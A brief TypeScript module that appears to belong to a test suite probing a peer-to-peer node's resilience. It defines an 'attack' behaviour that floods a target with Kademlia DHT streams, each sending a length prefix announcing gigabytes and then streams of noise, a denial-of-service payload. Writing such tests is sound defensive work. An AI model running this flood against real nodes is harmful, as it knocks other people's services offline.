/** A message that announces gigabytes. */
import { DHT } from '../attack/kad.js'
import type { Behaviour } from '../attack/target.js'
import { data, flooding, noise1MiB, opening } from '../attack/wire.js'

export const attack: Behaviour = async (target, signal) => flooding(target, signal, (n) => n === 0 ? opening(1, DHT) : data(1, n === 1 ? Uint8Array.of(0xff, 0xff, 0xff, 0xff, 0x0f) : noise1MiB.subarray(0, 32 * 1024)))
